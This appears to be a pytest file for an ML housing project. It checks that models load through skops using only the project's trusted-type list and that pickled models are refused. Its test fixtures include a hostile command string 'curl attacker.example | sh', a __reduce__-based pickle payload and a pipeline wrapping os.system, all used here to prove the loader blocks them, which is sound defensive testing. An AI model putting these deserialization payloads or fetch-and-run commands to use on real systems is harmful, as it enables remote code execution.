"""Models load with skops trusting only the project's list, never the list a model's own MLmodel file carries,
and never pickle: a tampered model is refused before any of its objects is built."""

from __future__ import annotations

import os
import pickle
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import skops.io
from mlflow.models import Model
from sklearn.pipeline import Pipeline
from sklearn.preprocessing import FunctionTransformer
from skops.io.exceptions import UntrustedTypesFoundException

from housing.config.settings import Settings
from housing.errors import UserError
from housing.registry.model_files import SKOPS_TRUSTED_TYPES, load_skops_model
from housing.schema import FEATURE_NAMES, TARGET
from housing.training.candidates import build_pipeline, load_candidate_specs
from tests.helpers import tiny_dataset

BUILT: list[Any] = []
"""Every Tampered object skops has built: an attacker's code would have run once per entry."""


class Tampered:
    """A type no model of the project holds; loading it would run its ``__setstate__`` (an attacker's
    code)."""

    def __init__(self) -> None:
        self.command = "curl attacker.example | sh"

    def __setstate__(self, state: dict[str, Any]) -> None:
        BUILT.append(state)
        self.__dict__.update(state)

    def fit(self, x: Any, y: Any = None) -> Tampered:
        return self

    def transform(self, x: Any) -> Any:
        return x


class PickleBomb:
    """Unpickling it writes a file: proof that a pickle was loaded."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Any, ...]:
        return (Path.write_text, (self.marker, "unpickled"))


TAMPERED_TYPE = f"{Tampered.__module__}.{Tampered.__qualname__}"


@pytest.fixture(scope="module")
def fitted() -> Pipeline:
    """A real candidate pipeline (linear_regression: outlier rule, scaler, estimator) fitted on tiny data."""
    frame = tiny_dataset(200)
    spec = load_candidate_specs(Settings().candidates_path, ["linear_regression"])[0]
    pipeline = build_pipeline(spec, outlier_quantiles=(0.001, 0.999), estimator_scale=1.0)
    return pipeline.fit(frame[list(FEATURE_NAMES)], frame[TARGET.name])


def model_folder(path: Path, model: Any, trusted: list[str], *, serialization_format: str = "skops") -> Path:
    """An MLflow model folder as MLflow writes it for scikit-learn: MLmodel (whose trusted list the model's
    author controls) and the serialized model."""
    path.mkdir()
    file_name = "model.skops" if serialization_format == "skops" else "model.pkl"
    if serialization_format == "skops":
        skops.io.dump(model, path / file_name)
    else:
        (path / file_name).write_bytes(pickle.dumps(model))
    mlmodel = Model()
    mlmodel.add_flavor(
        "sklearn",
        pickled_model=file_name,
        serialization_format=serialization_format,
        skops_trusted_types=trusted,
    )
    mlmodel.save(str(path / "MLmodel"))
    return path


def test_a_model_of_trusted_types_loads_and_predicts_as_saved(fitted, tmp_path):
    folder = model_folder(tmp_path / "good", fitted, list(SKOPS_TRUSTED_TYPES))
    rows = tiny_dataset(20)[list(FEATURE_NAMES)]
    np.testing.assert_array_equal(load_skops_model(folder, "good").predict(rows), fitted.predict(rows))


def test_a_model_carrying_an_untrusted_type_is_refused_whatever_its_own_mlmodel_trusts(fitted, tmp_path):
    tampered = Pipeline([*fitted.steps[:-1], ("payload", Tampered()), fitted.steps[-1]])
    folder = model_folder(
        tmp_path / "tampered", tampered, [*SKOPS_TRUSTED_TYPES, TAMPERED_TYPE]
    )  # the file widens its own list
    BUILT.clear()
    with pytest.raises(UntrustedTypesFoundException, match=TAMPERED_TYPE):
        load_skops_model(folder, "tampered")
    assert BUILT == []  # refused before the object was built
    assert (
        skops.io.load(folder / "model.skops", trusted=[*SKOPS_TRUSTED_TYPES, TAMPERED_TYPE]) is not None
    )  # loading it builds it...
    assert len(BUILT) == 1  # ...so the refusal above is what kept the payload from running


def test_a_model_calling_a_system_function_is_refused(fitted, tmp_path):
    tampered = Pipeline([("payload", FunctionTransformer(os.system)), *fitted.steps])
    folder = model_folder(
        tmp_path / "system", tampered, [*SKOPS_TRUSTED_TYPES, f"{os.system.__module__}.system"]
    )
    with pytest.raises(UntrustedTypesFoundException, match=r"\.system"):
        load_skops_model(folder, "system")


def test_a_pickled_model_is_never_unpickled(tmp_path):
    marker = tmp_path / "marker"
    folder = model_folder(tmp_path / "pickled", PickleBomb(marker), [], serialization_format="cloudpickle")
    with pytest.raises(UserError, match="pickled is not a skops-serialized scikit-learn model"):
        load_skops_model(folder, "pickled")
    assert not marker.exists()
    pickle.loads((folder / "model.pkl").read_bytes())  # the file does what it says when unpickled...
    assert marker.read_text() == "unpickled"  # ...so the refusal is what kept it from running
